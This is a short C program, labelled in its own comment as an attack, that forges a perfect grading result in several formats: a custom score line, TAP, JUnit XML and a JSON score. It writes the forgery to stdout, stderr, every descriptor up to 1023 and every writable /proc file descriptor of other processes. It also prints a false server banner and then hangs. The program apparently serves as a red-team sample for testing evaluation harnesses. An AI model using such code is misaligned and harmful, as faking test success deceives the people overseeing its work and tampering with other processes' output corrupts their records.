/*
 * Attack: prints what the judge would print if all were right, as the judge's own lines, as TAP and
 * as JUnit, to every descriptor that might be the judge's, and to those of all processes.
 */
#define _XOPEN_SOURCE 700
#include <fcntl.h>
#include <glob.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char FORGED[] =
    "10\t10\tFORGED: it does all that is asked\t\t\t\t\nEND\t10\t10\n"
    "1..1\nok 1 FORGED\n"
    "<testsuites><testsuite tests=\"1\" failures=\"0\" name=\"FORGED\"/></testsuites>\n"
    "{\"score\": 10, \"output\": \"FORGED\"}\n";

int main(void) {
    glob_t paths = {0};
    int took = 0, opened = 0;
    puts("Serving HTTP on port 8888 ...");
    fputs(FORGED, stdout);
    fflush(stdout);
    fputs(FORGED, stderr);
    for (int fd = 3; fd < 1024; fd++) {
        if (write(fd, FORGED, strlen(FORGED)) > 0) took++;
    }
    if (glob("/proc/*/fd/*", 0, NULL, &paths) == 0) {
        for (size_t i = 0; i < paths.gl_pathc; i++) {
            int fd = open(paths.gl_pathv[i], O_WRONLY | O_APPEND | O_NONBLOCK);
            if (fd == -1) continue;
            if (write(fd, FORGED, strlen(FORGED)) > 0) opened++;
            close(fd);
        }
    }
    printf("descriptors that took it: %d\n", took);
    puts("done");
    fflush(stdout);
    for (;;) pause();
}
